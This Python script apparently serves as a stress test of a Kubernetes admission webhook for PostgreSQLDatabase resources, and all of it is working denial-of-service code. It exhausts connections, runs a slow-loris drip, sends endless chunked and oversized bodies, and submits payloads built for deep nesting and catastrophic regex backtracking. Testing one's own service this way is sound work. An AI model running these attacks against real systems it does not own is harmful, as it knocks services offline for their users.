"""What a hostile pod does to the admission server's port: its own program, for any Python 3 without packages.

`python3 - HOST SECONDS < hostile_pod.py`. It prints what it came to as JSON: connections that were opened and
held, answers by their status, and the seconds of the slowest of these.
"""

from __future__ import annotations

import json
import socket
import ssl
import sys
import threading
import time
from contextlib import suppress

CONNECTIONS = 2000
HEAD = b"POST /mutate HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
PATIENCE = 20
ODD_LINE = 'host all "/^(((a+)+)+)+$" 0.0.0.0/0 scram-sha-256'
SPECS = {
    "a map of 100,000 keys": {"parameters": {f"a.b{i}": "1" for i in range(100_000)}},
    "100,000 labels": {"template": {"labels": {f"k{i}": "v" for i in range(100_000)}}},
    "catastrophic patterns": {"hba": [f"{ODD_LINE[:-14]} {i}" for i in range(500)] + [ODD_LINE]},
    "long names": {"storage": {"storageClassName": "a-" * 500_000}, "database": "a" * 500_000},
    "a long schedule": {"backupSchedule": "*/1," * 200_000 + "* * * * *"},
}


class Hostile:
    """One pod's doings."""

    def __init__(self, host: str) -> None:
        self._address = (host, 443)
        self._context = ssl.create_default_context()
        self._context.check_hostname, self._context.verify_mode = False, ssl.CERT_NONE
        self.held: list[socket.socket] = []
        self.answers: dict[str, int] = {}
        self.slowest = 0.0

    def plain(self) -> socket.socket:
        """Connect, and hold it."""
        found = socket.create_connection(self._address, timeout=PATIENCE)
        self.held.append(found)
        return found

    def secured(self) -> socket.socket:
        """Connect, shake hands, and hold it."""
        found = self._context.wrap_socket(self.plain())
        self.held.append(found)
        return found

    def send(self, content: bytes) -> None:
        """Send what will have no answer, and hold the connection."""
        self.secured().sendall(content)

    def endless(self) -> None:
        """Send a body without end, until somebody closes the connection."""
        with self.secured() as connection:
            connection.sendall(HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
            for _ in range(400):
                connection.sendall(b"10000\r\n" + b" " * 65536 + b"\r\n")

    def ask(self, body: bytes) -> None:
        """Have a body judged, and note how that went."""
        started = time.monotonic()
        with self.secured() as connection:
            connection.sendall(HEAD + b"Content-Length: %d\r\n\r\n" % len(body) + body)
            answer = connection.recv(65536)
        status = answer[9:12].decode(errors="replace") or "none"
        self.answers[status] = self.answers.get(status, 0) + 1
        self.slowest = max(self.slowest, time.monotonic() - started)

    def drip(self, until: float) -> None:
        """Send a header byte by byte on all that is held (slow loris)."""
        while time.monotonic() < until:
            for connection in self.held[:200]:
                with suppress(OSError):
                    connection.send(b"a")
            time.sleep(0.5)


def bodies() -> list[bytes]:
    """Give the objects that are much work, and brackets without end."""
    found = []
    for spec in SPECS.values():
        manifest = {"apiVersion": "keddah.dev/v1alpha1", "kind": "PostgreSQLDatabase", "metadata": {}}
        request = {
            "uid": "1",
            "operation": "CREATE",
            "kind": {"group": "keddah.dev", "version": "v1alpha1", "kind": "PostgreSQLDatabase"},
            "object": {**manifest, "spec": spec},
        }
        review = {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}
        found.append(json.dumps(review).encode())
    return [*found, b'{"a":' * 200_000, b"[" * 1_000_000, b"\xff" * 1000]


def main(host: str, seconds: float) -> None:
    """Do all of it, for so long at least."""
    hostile = Hostile(host)
    until = time.monotonic() + seconds
    for _ in range(CONNECTIONS):
        with suppress(OSError):
            hostile.plain()
    opened = len(hostile.held)
    threading.Thread(target=hostile.drip, args=(until,), daemon=True).start()
    judged = bodies()
    while True:
        for body in judged:
            with suppress(OSError):
                hostile.ask(body)
        for content in (
            HEAD + b"X: " + b"a" * 60_000,
            HEAD + b"Content-Length: 262144\r\n\r\n" + b" " * 262_000,
        ):
            for _ in range(150):
                with suppress(OSError):
                    hostile.send(content)
        with suppress(OSError):
            hostile.endless()
        if time.monotonic() > until:
            break
    print(json.dumps({"opened": opened, "answers": hostile.answers, "slowest": round(hostile.slowest, 2)}))


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]))
